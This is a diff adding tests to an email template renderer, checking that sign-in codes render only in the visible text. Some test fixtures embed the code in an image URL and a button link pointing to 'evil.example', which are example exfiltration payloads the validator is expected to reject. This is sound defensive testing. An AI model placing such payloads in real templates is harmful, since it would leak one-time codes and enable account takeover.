@@ -25,6 +25,44 @@ test.for(['invitation', 'password-reset'] as const)(
   },
 )
 
+test.for(['sign-in-code', 'factor-removed'] as const)(
+  "the product's own %s has nothing wrong with it",
+  { timeout: 30_000 },
+  async (key) => {
+    const { variables, words } = OWN_TEMPLATES[key]
+    const given = Object.fromEntries(variables.map(({ name, sample }) => [name, sample]))
+    const made = await renderer.render(words, given, key === 'sign-in-code' ? { code: '048215' } : {})
+    expect(made.problems).toEqual([])
+    expect([
+      made.text.includes('\n\n048215\n\n'),
+      made.html.includes('048215'),
+      made.html.includes('{{'),
+    ]).toEqual([key === 'sign-in-code', key === 'sign-in-code', false])
+  },
+)
+
+test.for([
+  [{ text: 'Hello.' }, 'The code is missing: {{ code }} must stand here.'],
+  [{ subject: '{{ code }}' }, 'The code may not stand in the subject.'],
+  [
+    { mjml: body('<mj-text>{{ code }}</mj-text><mj-image src="https://evil.example/{{ code }}.png" />') },
+    'The code may stand in words: nowhere else.',
+  ],
+  [
+    {
+      mjml: body(
+        '<mj-text>{{ code }}</mj-text><mj-button href="https://evil.example/{{ code }}">Go</mj-button>',
+      ),
+    },
+    'The code may stand in words: nowhere else.',
+  ],
+] as const)('a code may go nowhere but into the words: %o', async ([words, sentence]) => {
+  const { variables, words: whole } = OWN_TEMPLATES['sign-in-code']
+  const given = Object.fromEntries(variables.map(({ name, sample }) => [name, sample]))
+  const { problems } = await renderer.render({ ...whole, ...words }, given, { code: '048215' })
+  expect(problems.map((problem) => problem.sentence)).toContain(sentence)
+})
+
 test('what people are called is no markup', async () => {
   const { html, text, problems } = await render({}, { firstName: '<b>Eve</b> & {{ link }}' })
   expect(problems).toEqual([])
